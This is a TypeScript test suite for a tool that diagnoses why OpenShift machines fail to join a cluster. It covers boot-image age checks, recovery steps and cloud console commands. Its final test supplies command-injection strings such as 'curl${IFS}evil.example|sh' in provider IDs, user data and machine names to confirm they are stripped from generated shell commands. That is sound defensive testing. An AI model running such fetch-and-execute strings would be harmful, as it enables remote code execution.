import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { diagnose } from '.'
import { factsLike, mates } from './testing'
import type { JoinCertainty, JoinFacts } from './types'

const NOW = Date.parse('2026-11-21T08:00:00Z')
const judged = (facts: Partial<JoinFacts>) => diagnose(factsLike(facts), NOW)
const dated = (version: string, sure: 'certain' | 'likely' = 'certain'): JoinFacts['dated'] => ({
  kind: /^4\d\d\.|-/.test(version) ? 'RHCOSVersion' : 'OCPVersion',
  ...{ version, sure, because: '' },
})
const said = (more: Partial<JoinFacts['said']>): JoinFacts['said'] => ({ ...factsLike({}).said, ...more })
const others = { all: { joined: 3, stuck: 1 } }

test.each<[string, Partial<JoinFacts>, JoinCertainty, RegExp]>([
  [
    'an image below the floor, by its own name',
    { dated: dated('410.84.202201251210-0') },
    'boot-image',
    /RHEL 8\.4.*below RHEL 9\.2/,
  ],
  [
    'an image below the floor, as a set tells',
    { dated: dated('4.12.7', 'likely') },
    'likely',
    /4\.12\.7, below 4\.13\.0/,
  ],
  [
    'an image below the oldest that later releases accept, where none is enforced',
    { dated: dated('4.12.7'), floor: null },
    'likely',
    /4\.12\.7/,
  ],
  [
    'below the floor, but others that are not do not join either',
    { dated: dated('4.12.7'), all: { joined: 0, stuck: 2 } },
    'likely',
    /4\.12\.7/,
  ],
  [
    'below the floor, but another of it has joined since',
    { dated: dated('4.12.7'), sameImage: mates({ joined: 1 }) },
    'not-the-image',
    /other machines with that image join/,
  ],
  ['the image of the release', { wanted: true }, 'not-the-image', /the image of its release/],
  [
    'the image of the release, in a cluster where none has joined',
    { wanted: true, sameSet: mates({}) },
    'not-the-image',
    /image of its release/,
  ],
  [
    'another of the same image joined since',
    { sameImage: mates({ joined: 2 }), dated: null },
    'not-the-image',
    /other machines/,
  ],
  [
    'another of the same image joined, but before the release',
    { sameImage: mates({ ever: 9 }), dated: null },
    'unknown',
    /nothing tells how old ami-1 is/,
  ],
  [
    'an accepted image, and only newer ones join',
    { dated: dated('4.16.0', 'likely'), ...others },
    'likely',
    /only newer images have joined since the cluster runs 4\.22\.4/,
  ],
  [
    'an accepted image, and nobody has joined',
    { dated: dated('4.16.0') },
    'unknown',
    /which its release still accepts/,
  ],
  [
    'an accepted image; others join, others do not',
    { dated: dated('4.16.0'), all: { joined: 3, stuck: 4 } },
    'unknown',
    /still accepts/,
  ],
  [
    'of the release before, by its RHEL',
    { dated: dated('9.6.20251023-0'), ...others },
    'likely',
    /RHCOS 9\.6\.20251023-0/,
  ],
  ['of the same RHEL as the release', { dated: dated('9.8.20260301-0'), ...others }, 'unknown', /still accepts/],
  ['of the same minor release', { dated: dated('4.22.1'), ...others }, 'unknown', /still accepts/],
  ['no image', { image: null, dated: null }, 'unknown', /names none/],
  [
    'an instance that is stopped',
    { dated: dated('4.12.7'), said: said({ instance: 'stopped' }) },
    'not-the-image',
    /its instance is stopped/,
  ],
  [
    'a state that nobody knows',
    { dated: dated('4.12.7'), said: said({ instance: 'dreaming' }) },
    'boot-image',
    /boot image/,
  ],
  [
    'an error of its provider',
    { dated: dated('4.12.7'), said: said({ reason: 'UpdateError', message: 'no such volume' }) },
    'not-the-image',
    /UpdateError/,
  ],
  [
    'that it timed out',
    { dated: dated('4.12.7'), said: said({ reason: 'JoinClusterTimeoutError' }) },
    'boot-image',
    /4\.12\.7/,
  ],
  [
    'a template of vSphere',
    { platform: 'VSphere', image: 'rhcos-tpl', dated: null },
    'unknown',
    /how old rhcos-tpl is/,
  ],
  [
    'a template that a machine before it joined with',
    { platform: 'VSphere', dated: null, sameImage: mates({ joined: 1, first: '2026-11-20T00:00:00.000Z' }) },
    'not-the-image',
    /other machines/,
  ],
  [
    'an address on bare metal that a machine before it joined with',
    { platform: 'BareMetal', dated: null, sameImage: mates({ joined: 1, first: '2026-11-20T00:00:00.000Z' }) },
    'not-the-image',
    /other machines/,
  ],
  [
    'an address on bare metal that only a later machine joined with',
    { platform: 'BareMetal', dated: null, sameImage: mates({ joined: 1, first: '2026-11-21T07:00:00.000Z' }) },
    'unknown',
    /not known/,
  ],
  [
    'a template that only a later machine joined with',
    { platform: 'VSphere', dated: null, sameImage: mates({ joined: 1, first: '2026-11-21T07:00:00.000Z' }) },
    'unknown',
    /not known/,
  ],
])('%s', (_name, facts, certainty, words) => {
  const found = judged(facts)
  expect(found.certainty).toBe(certainty)
  expect(found.sentence).toMatch(words)
})

const commands = (facts: Partial<JoinFacts>) =>
  judged(facts).wayOut.map(({ command, link }) => command ?? link?.href ?? '')

test('the way out of an old image is its console, which goes with the machine, the image, then the machine', () => {
  const [first, second, third, ...more] = judged({ dated: dated('4.12.7') }).wayOut
  expect(first!.command).toBe('aws ec2 get-console-output --latest --output text --instance-id i-1 --region us-east-1')
  expect(second).toMatchObject({ link: { href: '/boot-images/c-1' } })
  expect(second!.sentence).toContain('let the operator manage it')
  expect(third!.command).toBe('oc delete machines.machine.openshift.io m-1 -n openshift-machine-api')
  expect(more).toEqual([])
})

describe('where its set has another image by now', () => {
  const set = (more: Partial<NonNullable<JoinFacts['set']>>): JoinFacts['set'] => ({
    ...{ ...factsLike({}).set!, current: 'ami-2' },
    ...more,
  })
  const old = dated('4.12.7')
  const current = { state: 'current', dated: dated('4.22.4') }
  test.each<[string, Partial<JoinFacts>, RegExp | null, string]>([
    ['the release’s', { dated: old, set: set({ state: 'current' }) }, null, 'a newer image'],
    ['a newer one', { dated: old, set: set({ dated: dated('4.16.0') }) }, null, 'a newer image'],
    [
      'the release’s, and its own is of the build before',
      { dated: { ...dated('9.8.20260701-0')!, ofRelease: { stands: 'older', release: '4.22.4' } }, set: set(current) },
      null,
      'a newer image',
    ],
    [
      'an older one',
      { dated: dated('4.20.0'), set: set({ dated: dated('4.16.0') }) },
      /^workers has an older/,
      'an older',
    ],
    [
      'one below the floor',
      { dated: null, set: set({ dated: old }) },
      /^workers has an image below/,
      'an image below the floor',
    ],
    ['one that nothing tells the age of', { dated: old, set: set({}) }, /^workers has another image/, 'another image'],
    [
      'another one than the release’s, which its own is',
      { wanted: true, set: set({}) },
      /^workers has another/,
      'another image',
    ],
  ])('%s', (_, facts, first, which) => {
    const { wayOut, evidence } = judged(facts)
    const steps = wayOut.map(({ sentence }) => sentence)
    expect(evidence.map(({ sentence }) => sentence).join()).toContain(`workers starts machines from ${which}`)
    const remove = steps.findIndex((sentence) => sentence.startsWith('Then delete the Machine'))
    if (!first)
      expect(steps[remove - 1]).toBe('workers has a newer image already, and its next machine starts from that.')
    else {
      expect(steps[remove - 2]).toMatch(first)
      expect(steps[remove - 1]).toMatch(/^Bring the image of workers up to date/)
    }
    const says = evidence.find(({ sentence }) => sentence.includes('starts machines from'))?.says
    expect(says).toBe(first ? 'nothing' : 'image')
  })
})

describe('where its set has the image of the release, and nothing tells that this is newer', () => {
  const release = { version: '4.18.20', completedAt: '2026-11-01T00:00:00.000Z' }
  const set = { ...factsLike({}).set!, current: 'ami-2', state: 'current', dated: dated('4.18.20') }
  const facts = { release, streamRelease: '418.94.202511191518-0', floor: null, set }
  test.each<[string, Partial<JoinFacts>]>([
    ['its own is of a later release', { dated: dated('9.8.20260714-0') }],
    ['its own is of a later build', { dated: dated('418.94.202512010000-0') }],
    ['its own is that of another architecture', { dated: dated('418.94.202511191518-0') }],
    ['its own cannot be dated', { dated: null }],
    [
      'its own is of the same minor release, as an offer on Azure says',
      { dated: { ...dated('4.18.0')!, minorOnly: true } },
    ],
  ])('%s', (_, more) => {
    const { wayOut, evidence } = judged({ ...facts, ...more })
    const steps = wayOut.map(({ sentence }) => sentence)
    expect(evidence).toContainEqual({
      ...{ says: 'nothing', sure: 'certain' },
      sentence: 'workers starts machines from the image of the release by now: ami-2.',
    })
    expect(steps.at(-2)).toBe('workers has the image of the release already, and its next machine starts from that.')
    expect(steps.at(-1)).toMatch(/^Then delete the Machine/)
  })
})

test('that the image of its set is newer is no surer than how old its own is', () => {
  const set = { ...factsLike({}).set!, current: 'ami-2', state: 'current', dated: dated('4.22.4') }
  const by = (facts: Partial<JoinFacts>) =>
    judged({ ...facts, set }).evidence.find(({ sentence }) => sentence.includes('a newer image by now'))
  expect(by({ dated: dated('4.16.0') })).toMatchObject({ says: 'image', sure: 'certain' })
  expect(by({ dated: dated('4.16.0', 'likely') })).toMatchObject({ says: 'image', sure: 'likely' })
})

test('nothing of an image speaks for it as the cause where it is not: neither that its set has a newer one, nor that none of it has joined', () => {
  const set = { ...factsLike({}).set!, current: 'ami-2', state: 'current', dated: dated('4.22.4') }
  const stopped = { said: said({ instance: 'stopped' }), dated: dated('4.16.0'), set }
  const speaks = (facts: Partial<JoinFacts>) =>
    judged(facts).evidence.flatMap(({ says, sentence }) => (says === 'image' ? [sentence] : []))
  expect(speaks(stopped).join()).not.toMatch(/by now|has joined since/)
  expect(speaks({ ...stopped, said: said({}) }).join()).toMatch(/by now.*has joined since/)
  expect(speaks({ wanted: true, ...others }).join()).not.toMatch(/joined since/)
})

test('a version that stands in its name is certain; that it is the cause is likely where the release has no limit', () => {
  const { sentence, certainty, evidence } = judged({ dated: dated('412.86.202303211731-0'), floor: null })
  expect(certainty).toBe('likely')
  expect(sentence).toContain('most likely because of its boot image: ami-1 is of RHCOS 412.86.202303211731-0')
  expect(evidence.find(({ sentence }) => sentence.startsWith('It starts from'))).toMatchObject({ sure: 'certain' })
  expect(judged({ dated: dated('4.12.7', 'likely') }).sentence).toContain('ami-1 is likely of 4.12.7')
})

test.each([
  ['projects/acme/global/images/golden-2026', 'golden-2026'],
  [
    '/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/galleries/acme/images/golden/versions/9',
    'golden/versions/9',
  ],
  ['azureopenshift:aro4:aro_418:418.94.20250101', 'azureopenshift:aro4:aro_418:418.94.20250101'],
])('an image is called by what tells it: %s', (image, short) => {
  expect(judged({ image }).sentence).toMatch(new RegExp(` how old ${short} is\\.$`))
})

test('a set of the control plane is called so, and of a release without a limit nothing is below a floor', () => {
  const plane = { kind: 'ControlPlaneMachineSet', name: 'cluster', state: 'outdated', current: 'ami-9' }
  const set = { ...factsLike({}).set!, ...plane, dated: dated('4.12.7') }
  const { wayOut, evidence } = judged({ dated: dated('4.12.9'), set, controlPlane: true, floor: null })
  const [, first, second] = wayOut.map(({ sentence }) => sentence)
  expect(first).toMatch(/^Its control plane machine set has an image that later releases do not accept by now/)
  expect(second).toMatch(/ image of its control plane machine set /)
  expect(evidence.map(({ sentence }) => sentence).join()).toContain(
    'Its control plane machine set starts machines from',
  )
})

test('where its own image and that of its set are both the release’s, none is to be changed', () => {
  const set = { ...factsLike({}).set!, current: 'ami-2', state: 'current' }
  const { wayOut, evidence } = judged({ wanted: true, set })
  expect(wayOut.map(({ sentence }) => sentence).join()).not.toMatch(/image of workers|workers has/)
  expect(evidence.map(({ sentence }) => sentence).join()).not.toContain('by now')
})

test('of what is not the image, requests, console and server come first, and no image is to be changed', () => {
  const steps = commands({ wanted: true })
  expect(steps[0]).toBe('oc get csr')
  expect(steps[2]).toContain('machine-config-server')
  expect(steps[3]).toContain('oc get secret worker-user-data -n openshift-machine-api')
  expect(steps.at(-1)).toContain('oc delete')
  expect(steps.join()).not.toContain('/boot-images')
})

test('a machine of no set is not promised another one, and a control plane goes one at a time', () => {
  const ofNone = judged({ dated: dated('4.12.7'), set: null }).wayOut.at(-1)
  expect(ofNone!.sentence).toContain('Nothing makes another one')
  const plane = judged({ dated: dated('4.12.7'), controlPlane: true }).wayOut.map(({ sentence }) => sentence)
  expect(plane.join(' ')).toContain('no other of the control plane before the next one has joined')
})

test.each([
  [
    'GCP',
    'gce://p-1/us-central1-a/vm-1',
    'gcloud compute instances get-serial-port-output vm-1 --zone us-central1-a --project p-1',
  ],
  ['Azure', 'azure:///subscriptions/s/vm-1', 'az vm boot-diagnostics get-boot-log --ids /subscriptions/s/vm-1'],
  ['VSphere', 'vsphere://42-1', 'govc vm.console m-1'],
])('the console on %s', (platform, providerId, command) => {
  expect(commands({ platform, providerId, wanted: true })).toContain(command)
})

test('what cannot be known is said, and from 4.19 on composefs is named for images before it', () => {
  const told = (facts: Partial<JoinFacts>) =>
    judged(facts)
      .evidence.map(({ sentence }) => sentence)
      .join(' ')
  expect(told({})).toContain('Ignition version in the Secret worker-user-data is not known')
  expect(told({})).toContain('certificate request')
  expect(told({ dated: dated('4.12.7') })).toContain('composefs')
  expect(told({ dated: dated('418.94.202511191518-0') })).toContain('composefs')
  expect(told({ dated: dated('4.20.1') })).not.toContain('composefs')
  expect(told({ dated: dated('4.12.7'), release: { version: '4.18.2', completedAt: null } })).not.toContain('composefs')
})

describe('where machines of the same image have joined under a release before', () => {
  const below = { dated: dated('4.12.7'), sameImage: mates({ ever: 30 }) }
  const told = (joinedUnder: string | null) => judged({ ...below, joinedUnder })
  const sentences = (joinedUnder: string | null) => told(joinedUnder).evidence.map(({ sentence }) => sentence)

  test.each([
    ['4.20.9', 'likely', false],
    ['4.19.0', 'likely', false],
    ['4.18.2', 'boot-image', true],
    [null, 'boot-image', true],
  ] as const)('%s', (joinedUnder, certainty, composefs) => {
    expect(told(joinedUnder).certainty).toBe(certainty)
    expect(sentences(joinedUnder).join(' ').includes('composefs')).toBe(composefs)
  })

  test('it says under which', () => {
    const since = 'No machine with the same image has joined since the cluster runs 4.22.4'
    expect(sentences('4.20.9')).toContain(`${since}; 30 did before, the last while it ran 4.20.9.`)
    expect(sentences(null)).toContain(`${since}; 30 did before.`)
    const one = judged({ ...below, sameImage: mates({ ever: 1 }), joinedUnder: '4.20.9' }).evidence
    expect(one.map(({ sentence }) => sentence)).toContain(`${since}; one did before, while it ran 4.20.9.`)
  })
})

test('its image is never the cause where another machine has joined with it, and every answer has a way out', () => {
  const some = fc.record({
    wanted: fc.boolean(),
    image: fc.constantFrom('ami-1', null),
    dated: fc.constantFrom(null, dated('4.12.7'), dated('4.16.0', 'likely'), dated('9.6.20251023-0')),
    platform: fc.constantFrom('AWS', 'GCP', 'Azure', null),
    sameImage: fc.nat(2).map((joined) => mates({ joined })),
    all: fc.record({ joined: fc.nat(5), stuck: fc.nat(3) }),
    said: fc.constantFrom('running', 'stopped', null).map((instance) => said({ instance })),
    set: fc.constantFrom(factsLike({}).set, null),
  })
  fc.assert(
    fc.property(some, (facts) => {
      const { certainty, wayOut, evidence, sentence } = judged(facts)
      const image = certainty === 'boot-image' || certainty === 'likely'
      if (facts.wanted || facts.sameImage.joined > 0 || facts.image === null) expect(image).toBe(false)
      if (image) expect(evidence.some(({ says }) => says === 'image')).toBe(true)
      expect(wayOut.length).toBeGreaterThan(0)
      expect(sentence).toMatch(/^It never joined the cluster.*\.$/)
      for (const step of [...wayOut, ...evidence]) expect(step.sentence).toMatch(/[.:]$/)
    }),
  )
})

test.each(['AWS', 'GCP', 'Azure'])('what is copied into a shell holds nothing but names, on %s', (platform) => {
  const providerId = 'x:///p/z-1a/i-1;curl${IFS}evil.example|sh'
  const said = { instance: 'running', userData: 'worker-user-data; curl evil.example|sh', reason: null, message: null }
  const name = 'w; curl evil.example|sh #'
  const all = [commands({ platform, providerId, wanted: true, said }), commands({ name, wanted: true })].flat()
  expect(all.join('\n')).not.toContain('evil')
  // Nor what would be read as an option.
  expect(commands({ platform, providerId: 'x:///p/z-1a/--help', wanted: true }).join()).not.toContain(' --help')
})
